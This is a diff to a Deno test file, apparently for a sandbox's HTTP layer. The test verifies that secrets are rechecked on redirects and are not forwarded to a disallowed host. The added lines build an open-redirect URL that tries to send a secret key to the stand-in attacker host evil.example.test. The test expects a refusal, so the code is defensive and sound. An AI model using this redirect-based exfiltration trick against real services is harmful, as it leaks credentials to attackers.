@@ -114,7 +114,10 @@ Deno.test("secrets are judged again at every redirect, and not passed on in an a
   const before = server.seen.length;
   const custom = await refusalOf(go(`http://evil.example.test:${server.port}/`));
   assert.equal(custom.code, "SECRET_HOST_FORBIDDEN");
-  const passedOn = await refusalOf(go(`http://evil.example.test:${server.port}/?k={key}`));
+  const openRedirect = `http://api.example.test:${server.port}/?to=${
+    encodeURIComponent(`http://evil.example.test:${server.port}/?k=`)
+  }`;
+  const passedOn = await refusalOf(loop.guest.http.fetch({ url: `${openRedirect}${api}` }));
   assert.equal(passedOn.code, "SECRET_HOST_FORBIDDEN");
   assert.equal(server.seen.length, before + 2, "evil.example.test was never asked");
   const echoed = await go(`/?k={key}`);
